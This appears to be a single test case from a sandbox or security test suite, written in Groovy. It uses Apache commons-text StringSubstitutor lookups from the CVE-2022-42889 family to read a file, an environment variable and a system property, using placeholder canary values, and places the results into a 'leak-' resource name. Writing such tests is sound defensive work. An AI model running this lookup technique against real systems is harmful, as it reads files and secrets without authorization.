// class: file-read
// source: original (commons-text StringSubstitutor lookups, CVE-2022-42889 family)
// expect: read
def s = org.apache.commons.text.StringSubstitutor.createInterpolator()
def v = s.replace('${file:UTF-8:@CANARY_READ@}') + s.replace('${env:@ENV_NAME@}') + s.replace('${sys:@SYSPROP@}')
vmwareSite("leak-${v}") { network 'VM Network' }
